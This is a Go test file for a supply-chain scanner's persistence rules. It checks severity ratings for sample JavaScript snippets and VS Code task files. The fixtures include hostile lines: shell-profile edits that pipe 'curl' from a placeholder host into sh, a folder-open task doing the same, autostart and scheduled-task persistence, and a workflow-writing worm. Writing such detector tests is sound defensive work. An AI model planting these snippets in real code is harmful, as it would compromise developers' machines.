package persist

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestStartupEntry(t *testing.T) {
	rt.Check(t, StartupEntry{}, []rt.Case{
		{"bashrc", map[string]string{"index.js": `const fs=require("fs"),p=require("path"),os=require("os"); fs.appendFileSync(p.join(os.homedir(), ".bashrc"), "node ~/.x.js &")`}, finding.SeverityHigh},
		{"bashrc_download_exec", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\ncurl -s http://x.invalid/b | sh &\n")`}, finding.SeverityCritical},
		// shell completion installers add a source line, not a download
		{"bashrc_completion", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\n[ -f ~/.config/tabtab/__tabtab.bash ] && . ~/.config/tabtab/__tabtab.bash\n")`}, finding.SeverityHigh},
		{"xdg_autostart", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),path=require("path"); const d = path.join(os.homedir(), ".config", "autostart"); fs.writeFileSync(path.join(d, "u.desktop"), entry)`}, finding.SeverityHigh},
		{"schtasks", map[string]string{"index.js": `require("child_process").exec("schtasks /create /sc onlogon /tn u /tr x.exe")`}, finding.SeverityHigh},
		{"scaffolds_workflow", map[string]string{"index.js": `require("fs").writeFileSync(".github/workflows/ci.yml", yaml)`}, finding.SeverityLow},
		{"worm_workflow", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".github/workflows/x.yml", y); require("child_process").execSync("git push"); fetch("https://api.github.com/user/repos")`}, finding.SeverityHigh},
		{"reads_bashrc", map[string]string{"index.js": `const fs=require("fs"); fs.existsSync("~/.bashrc")`}, finding.SeverityNone},
	})
}

func TestIDEAutorun(t *testing.T) {
	rt.Check(t, IDEAutorun{}, []rt.Case{
		{"curl_on_open", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"curl -s https://x.invalid/s | bash","runOptions":{"runOn":"folderOpen"}}]}`}, finding.SeverityCritical},
		{"build_on_open", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"npm run watch","runOptions":{"runOn":"folderOpen"}}]}`}, finding.SeverityHigh},
		{"normal_tasks", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"npm test"}]}`}, finding.SeverityNone},
	})
}
